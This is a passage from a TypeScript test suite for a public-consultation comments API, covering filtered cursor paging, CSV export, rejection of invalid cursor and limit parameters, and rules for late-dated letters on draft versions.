  const both = (await api.call({ url: `/consultations/${id}/comments?status=awaiting-answer&section=s1&limit=4` })).json();
  t.strictSame(both.comments.map((c: { commentId: string }) => c.commentId), mine.slice(0, 4));
  const both2 = (await api.call({ url: `/consultations/${id}/comments?status=awaiting-answer&section=s1&limit=4&cursor=${both.next}` })).json();
  t.strictSame([both2.comments.map((c: { commentId: string }) => c.commentId), both2.next], [mine.slice(4, 6), null], 'the answered 7th is filtered out');

  const csv = await api.call({ url: `/consultations/${id}/comments?limit=2&stakeholder=${wmn}`, headers: { accept: 'text/csv' } });
  t.equal((parse(csv.body, { bom: true }) as string[][]).length, 8, 'CSV: the header and every filtered row, unpaged');
});

t.test('paging input: a cursor this view did not give out, or a limit outside 1…1000, is 400 INVALID_INPUT naming the parameter', async (t) => {
  const { api, id, wmn } = await setUp(t);
  await submit(api, id, { stakeholderId: wmn, draftVersion: 1, text: 'One', channel: 'api' });
  const forged = Buffer.from(JSON.stringify({ order: 1 })).toString('base64url');
  for (const query of ['cursor=not-a-cursor!', 'cursor=', `cursor=${forged}`, `cursor=${'A'.repeat(401)}`, 'cursor=e30', 'limit=0', 'limit=1001', 'limit=2.5', 'limit=ten']) {
    const res = await api.call({ url: `/consultations/${id}/comments?${query}` });
    t.equal(res.statusCode, 400, query);
    t.equal(res.json().code, 'INVALID_INPUT', query);
    t.strictSame(res.json().errors.map((e: { path: string }) => e.path), [`querystring.${query.split('=')[0]}`], query);
  }
  t.equal((await api.call({ url: `/consultations/${id}/comments?limit=1000` })).statusCode, 200, '1000 is allowed');
});

t.test('a late letter over HTTP: on the version it was made on, judged by madeAt; before the version was published 422 MADE_AT_BEFORE_DRAFT', async (t) => {
  const { api, id, wmn, time } = await setUp(t);
  time.set('2027-02-01T09:00:00.000Z');
  t.equal((await api.call({ url: `/consultations/${id}/drafts`, body: DRAFT_BODY })).statusCode, 201, 'v2');
  time.set('2027-02-03T09:00:00.000Z');
  const late = await api.call({
    url: `/consultations/${id}/comments`,
    body: { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: 'Our letter of 20 January', channel: 'letter', madeAt: '2027-01-20T10:00:00+01:00' },
  });
  t.equal(late.statusCode, 201, late.body);
  t.equal(late.json().ref, 'C-1');
  const row = (await api.call({ url: `/consultations/${id}/comments/${late.json().commentId}` })).json();
  t.strictSame([row.draftVersion, row.channel, row.madeAt, row.submittedAt], [1, 'letter', '2027-01-20T10:00:00+01:00', '2027-02-03T09:00:00.000Z']);
  const tooEarly = await api.call({
    url: `/consultations/${id}/comments`,
    body: { stakeholderId: wmn, draftVersion: 2, text: 'Dated before v2', channel: 'letter', madeAt: '2027-01-25T10:00:00Z' },
  });
  t.equal(tooEarly.statusCode, 422);
  t.equal(tooEarly.json().code, 'MADE_AT_BEFORE_DRAFT');
  t.strictSame(tooEarly.json().details, { draftVersion: 2, madeAt: '2027-01-25T10:00:00Z', publishedAt: '2027-02-01T09:00:00.000Z', deadline: DRAFT_BODY.commentDeadline });
  const beforeOpening = await api.call({
    url: `/consultations/${id}/comments`,
    body: { stakeholderId: wmn, draftVersion: 1, text: 'Dated before the consultation opened', channel: 'meeting', madeAt: '2027-01-02T10:00:00Z' },
  });
  t.equal(beforeOpening.json().code, 'MADE_AT_BEFORE_DRAFT');
  const online = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 1, text: 'Online, on v1', channel: 'api' } });
  t.equal(online.json().code, 'DRAFT_NOT_LATEST', 'an online comment is still on the latest version only');
});
